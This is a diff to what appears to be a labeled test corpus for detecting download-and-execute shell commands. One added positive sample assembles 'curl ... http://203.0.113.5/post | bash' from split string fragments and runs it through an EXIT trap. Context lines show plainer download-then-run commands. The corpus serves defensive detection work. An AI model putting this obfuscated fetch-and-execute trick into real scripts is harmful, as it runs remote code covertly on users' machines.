@@ -136,3 +136,14 @@ curl -sO https://example.com/install.sh && bash install.sh
 wget https://bootstrap.example.org/get-pip.py; python3 get-pip.py
 #@ neg a data file downloaded, then a local script run
 wget https://example.com/data.csv && python3 analyze.py
+#@ pos an EXIT trap whose code is what a function prints
+handler() {
+	local parts=(cu rl " -fsSL http://203.0.113.5/" "post | ba" sh)
+	local IFS=
+	printf '%s' "${parts[*]}"
+}
+trap "$(handler)" EXIT
+#@ neg a function that prints its argument, used as a message
+say() { printf '%s\n' "$1"; }
+msg=$(say "curl then sh")
+echo "$msg"
